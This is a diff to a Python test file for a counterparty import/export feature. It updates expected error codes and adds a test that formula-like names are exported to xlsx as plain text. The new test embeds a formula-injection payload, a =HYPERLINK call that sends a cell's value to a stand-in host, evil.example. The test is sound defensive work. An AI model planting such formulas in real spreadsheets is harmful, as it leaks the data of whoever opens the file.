@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import io
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -139,10 +140,10 @@ async def test_broken_rows_are_rejected_with_reasons_and_the_rest_imported(app: 
 
 
 NOT_TABLES = (
-    ("photo.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "import-not-a-table"),
+    ("photo.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "table-unreadable"),
     ("notes.csv", "просто текст\nбез таблицы\n".encode(), "import-not-a-table"),
-    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "import-xls"),
-    ("broken.xlsx", b"PK\x03\x04garbage", "import-not-a-table"),
+    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "table-xls"),
+    ("broken.xlsx", b"PK\x03\x04garbage", "table-unreadable"),
     ("empty.csv", HEADER.encode(), "import-empty"),
     ("report.pdf", b"%PDF-1.4", "import-bad-type"),
 )
@@ -197,3 +198,30 @@ async def test_export_reads_back_as_an_import(app: TestApp, data_dir: Path) -> N
     assert again.count(RowStatus.REJECTED) == 0
     names = await app.read(lambda uow: uow.session.scalars(select(Counterparty.name)))
     assert len(list(names)) == 80
+
+
+async def test_export_writes_formula_like_text_as_text(app: TestApp) -> None:
+    """A name such as ``=HYPERLINK(…)`` (a stranger's Telegram name can become one) is exported
+    as the text it is, never as a live formula; the report file too."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Открыть")'
+    row = f'x1,"{evil.replace(chr(34), chr(34) * 2)}",,,,+Тверь,-1+1,,,@Иванов,,,\n'
+    report = await run(app, (HEADER + row).encode())
+    assert report.count(RowStatus.CREATED) == 1
+    me = await actor(app, app.people.head)
+    rows = await app.read(lambda uow: counterparty_import.export_counterparties(me, uow))
+    texts = Texts.load("ru")
+    for content in (
+        counterparty_files.export_xlsx(texts, rows),
+        counterparty_files.report_xlsx(texts, report),
+    ):
+        sheets = zipfile.ZipFile(io.BytesIO(content))
+        assert b"<f>" not in sheets.read("xl/worksheets/sheet1.xml")
+        book = load_workbook(io.BytesIO(content))
+        sheet = book.active
+        assert sheet is not None
+        cells = [c for r in sheet.iter_rows() for c in r if isinstance(c.value, str)]
+        assert evil in [c.value for c in cells]
+        assert all(c.data_type == "s" for c in cells)
+    sheet = load_workbook(io.BytesIO(counterparty_files.export_xlsx(texts, rows))).active
+    assert sheet is not None
+    assert [sheet["F2"].value, sheet["G2"].value] == ["+Тверь", "-1+1"]
